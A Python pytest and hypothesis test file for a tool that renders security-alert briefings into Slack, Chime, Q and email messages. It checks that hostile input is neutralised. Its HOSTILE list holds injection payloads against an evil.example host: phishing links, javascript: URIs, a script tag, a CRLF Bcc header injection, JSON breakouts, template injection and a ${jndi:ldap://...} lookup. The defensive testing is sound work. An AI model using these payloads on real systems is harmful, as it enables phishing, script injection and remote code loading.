"""Contract tests: what holds for every channel, whatever an event says."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hinomi import layout
from hinomi.briefing import Line, Section
from hinomi.channels import CHANNELS
from hinomi.model import Reason, Severity
from support.briefings import BARE, EN, JA, REPORT, URL, saying, strings
from support.messages import shape_flaws, size_flaws

if TYPE_CHECKING:
    from hinomi.briefing import Briefing
    from hinomi.channels import Channel
    from hinomi.model import Message

HOSTILE = (
    "<!channel> <!here> <!subteam^S1> <@U012345>",
    "<https://evil.example/login|Open in AWS console>",
    "[Open in AWS console](https://evil.example/login) ![x](https://evil.example/x.png) [x]: https://evil.example",
    "https://evil.example www.evil.example evil.example.com a@evil.example mailto:a@evil.example ftp://evil.example",
    "javascript:alert(1) data:text/html,x //evil.example",
    "`code` ```block``` *bold* **bold** _italic_ ~gone~ # title",
    "@everyone @here @channel @all @present <at>everyone</at>",
    "x\r\nBcc: victim@example.com\r\n\r\n# title\n- item\n1. item\n> quote\n\n---\n",
    "\u202egnp.exe\u2066 zero\u200bwidth \x1b[31mred \x00\x07\x9b",
    "&lt;!channel&gt; &#60;https://evil.example&#62; <script>alert(1)</script>",
    '"}],"blocks":[{"type":"section"}] \\" \\u0000',
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/x}",
)
PIECES = (
    *HOSTILE,
    "あ",
    "火の見櫓。",
    "👨‍👩‍👧‍👦",
    "🇯🇵",
    "<",
    "&",
    '"',
    "\\",
    "](",
    "*",
    "_",
    "a b ",
    "é",
    "か\u3099",
    "\n",
)

_FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_LINKED = re.compile(
    r"(?<!hxxp)(?<!hxxps)://|www\.\w|[^\s@]@[a-z0-9-]+\.|evil\.example|(?<![a-z0-9])(?:javascript|data|mailto):\S",
    re.IGNORECASE,
)
_MENTION = re.compile(r"<[!@#][^>]*>|<at>|<[a-z]+:", re.IGNORECASE)

channels = pytest.mark.parametrize("channel", CHANNELS, ids=[channel.NAME for channel in CHANNELS])


def shown(message: Message) -> list[str]:
    """List the texts of a message that a reader's program interprets, without the one trusted address."""
    if message.channel == "email":
        texts = [message.subject, message.body]
    else:
        body = json.loads(message.body)
        body.get("metadata", {}).pop("threadId", None)  # which nobody is shown
        texts = [text for text in strings(body) if not text.startswith("http://adaptivecards.io/")]
    return [text.replace(URL, "") for text in texts]


def check(channel: Channel, briefing: Briefing) -> Message:
    """Render, and check all that holds for every message."""
    message = channel.render(briefing)
    assert (message.channel, message.locale) == (channel.NAME, briefing.locale)
    assert [*size_flaws(message), *shape_flaws(message)] == []
    assert not _FORBIDDEN.search(message.subject + message.body)
    for text in shown(message):
        assert not _FORBIDDEN.search(text), text
        assert not _LINKED.search(text), text
    return message


@channels
@pytest.mark.parametrize("value", HOSTILE)
def test_nothing_hostile_is_active(channel: Channel, value: str) -> None:
    check(channel, saying(value))


@channels
@given(value=st.text(), copies=st.integers(0, 60))
def test_any_text_is_carried(channel: Channel, value: str, copies: int) -> None:
    check(channel, saying(value, copies=copies))


@channels
@settings(max_examples=15)  # each is a message of up to 3 MB before it is cut
@given(piece=st.sampled_from(PIECES), times=st.integers(1, 20_000), copies=st.integers(1, 60))
@example(piece='"', times=20_000, copies=60)
@example(piece="👨‍👩‍👧‍👦", times=5_000, copies=60)
def test_huge_text_is_cut_to_the_limits(channel: Channel, piece: str, times: int, copies: int) -> None:
    message = check(channel, saying(piece * min(times, 60_000 // len(piece)), copies=copies))
    assert has_link(message)


@channels
@given(pieces=st.lists(st.sampled_from(PIECES), max_size=40).map("".join), severity=st.sampled_from(Severity))
def test_mixed_hostile_text_is_carried(channel: Channel, pieces: str, severity: Severity) -> None:
    check(channel, msgspec.structs.replace(saying(pieces, copies=3), severity=severity))


@channels
@pytest.mark.parametrize("briefing", [JA, EN], ids=["ja", "en"])
def test_everything_is_told_in_order(channel: Channel, briefing: Briefing) -> None:
    message = check(channel, briefing)
    told = "".join(body_texts(message)).replace("\n", "").replace(" ", "").replace("＿", "_").replace(">", "")
    parts = [briefing.headline, *(line.value for line in briefing.lines), briefing.quote, briefing.why]
    if message.channel != "q":  # whose steps stand in a list of their own
        parts += briefing.steps
    place = 0
    for part in parts:
        place = told.index(part.replace(" ", ""), place)
    assert all(part.replace(" ", "") in told for part in (*briefing.steps, briefing.reference, briefing.because))
    assert briefing.severity_label in told
    assert has_link(message)


@channels
def test_the_status_is_told(channel: Channel) -> None:
    solved = msgspec.structs.replace(JA, status="解決", reason=Reason.RESOLVED)
    assert "[高][解決]" in "".join(body_texts(channel.render(solved)))


@channels
def test_what_is_absent_leaves_no_label(channel: Channel) -> None:
    message = check(channel, BARE)
    assert not any(label in text for label in JA.labels.values() for text in shown(message))
    assert URL not in message.body


@channels
def test_a_line_without_a_value_is_left_out(channel: Channel) -> None:
    message = check(channel, msgspec.structs.replace(JA, lines=(Line("空欄", ""), Line("回数", "3"))))
    assert "空欄" not in message.body
    assert "回数" in message.body


@channels
def test_a_hint_tells_how_many_lines_are_left_out(channel: Channel) -> None:
    many = tuple(Line("対象", f"∀{'あ' * 190}") for _ in range(layout.ROOMS[0].lines + 7))
    body = check(channel, msgspec.structs.replace(JA, lines=many)).body
    hint = re.search(r"ほか (\d+) 行", body)
    assert hint
    assert int(hint[1]) == len(many) - body.count("∀")


@channels
def test_a_cut_quote_says_so(channel: Channel) -> None:
    body = check(channel, msgspec.structs.replace(JA, quote="word " * 1000)).body.replace("\n", "")
    assert "…（以下省略）" in body


@channels
def test_a_report_is_told_section_by_section(channel: Channel) -> None:
    told = "".join(body_texts(check(channel, REPORT))).replace("\n", "").replace(" ", "")
    place = 0
    for section in REPORT.sections:
        for part in (section.heading, *section.items):
            place = told.index(part.replace(" ", ""), place)
    assert told.index("ほか59件") < told.index("変更候補") < told.index("12件（ここでは省略）")


@channels
def test_a_report_without_sections_has_no_empty_heading(channel: Channel) -> None:
    quiet = msgspec.structs.replace(REPORT, sections=())
    assert not any(hint in text for hint in ("ほか", "件（") for text in shown(check(channel, quiet)))


@channels
@pytest.mark.parametrize("piece", ["設", '"', "👨‍👩‍👧‍👦", "a"])
def test_a_report_on_60_controls_in_17_regions_fits_and_keeps_what_failed(channel: Channel, piece: str) -> None:
    failed = Section("確認または変更できなかった設定", tuple(f"失敗{number}: {piece * 40}" for number in range(3)))
    places = tuple(f"{number}: {piece * 300}" for number in range(60 * 17))
    others = tuple(Section(f"見出し{number} {piece * 20}", places, more=number) for number in range(15))
    message = check(channel, msgspec.structs.replace(REPORT, sections=(failed, *others)))
    told = "".join(body_texts(message)).replace("\n", "").replace(" ", "")
    assert all(f"失敗{number}:" in told for number in range(3))
    assert all(f"見出し{number}" in told for number in range(15))


@channels
def test_the_hints_of_a_report_count_all_that_is_left_out(channel: Channel) -> None:
    items = tuple(f"∀{number} {'あ' * 300}" for number in range(150))
    body = check(channel, msgspec.structs.replace(REPORT, sections=(Section("変更した設定", items, more=9),))).body
    hint = re.search(r"ほか (\d+) 件", body)
    assert hint
    assert int(hint[1]) == len(items) + 9 - body.count("∀")


@pytest.mark.parametrize("name", ["chime", "q"])
@pytest.mark.parametrize("value", HOSTILE)
def test_no_markdown_but_our_own_is_rendered(name: str, value: str) -> None:
    channel = next(channel for channel in CHANNELS if name == channel.NAME)
    body = json.loads(channel.render(saying(value)).body)
    texts = [body["Content"].removeprefix("/md ")] if name == "chime" else strings(body["content"])
    for text in texts:
        assert not _MENTION.search(text)
        tokens = [token for block in MarkdownIt("commonmark").parse(text) for token in (block.children or [block])]
        assert {token.attrGet("href") for token in tokens if token.type == "link_open"} <= {URL}
        assert not {token.type for token in tokens} & {
            "image",
            "code_inline",
            "html_inline",
            "html_block",
            "fence",
            "hr",
        }
        ours = {*JA.labels.values(), "対象", "GuardDuty の検出結果を開く", layout_title(text)}
        ours.add(vars(channel)["escape"](saying(value).sections[0].heading))
        assert ours.issuperset(re.findall(r"\*+([^*]+)\*+", text))


def layout_title(text: str) -> str:
    """Give the title that Chime shows in bold."""
    return text.split("**")[1] if text.startswith("**") else ""


def body_texts(message: Message) -> list[str]:
    """List the texts of a body in reading order."""
    return [message.body] if message.channel == "email" else strings(parsed(message))


def parsed(message: Message) -> Any:
    """Parse a body, a repeated title of Slack's fallback left out."""
    body = json.loads(message.body)
    return body["blocks"] if message.channel == "slack" else body


def has_link(message: Message) -> bool:
    """Tell whether the one trusted address is there, whole."""
    return URL in (message.body if message.channel == "email" else "\n".join(strings(json.loads(message.body))))
